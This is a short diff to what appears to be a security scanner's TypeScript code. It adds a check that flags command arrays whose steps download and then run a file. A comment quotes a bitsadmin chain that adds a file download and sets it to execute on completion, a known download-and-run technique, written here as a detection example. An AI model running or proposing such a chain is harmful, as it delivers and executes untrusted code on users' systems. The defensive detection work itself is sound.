@@ -421,6 +421,10 @@ function assessCodeAndSettings(fields: PayloadFields, findings: Findings): void 
       (protection ??= []).push(field);
   }
   if (protection !== undefined) assessProtectionEdits(protection, findings);
+  // `commands: ["bitsadmin /addfile j URL f.exe", "bitsadmin /SetNotifyCmdLine j f.exe NUL"]`: the steps of one call run in order.
+  const steps = fields.strings.filter((field) => field.inArray && COMMAND_KEYS.has(field.key));
+  if (steps.length > 1 && steps.some((field) => DOWNLOAD_HINTS.some((hint) => field.text.includes(hint))))
+    assessDownloadThenRun(steps.map((field) => field.text).join('\n'), findings);
 }
 
 /** A container's command judged by the shell rules (critical or not). */
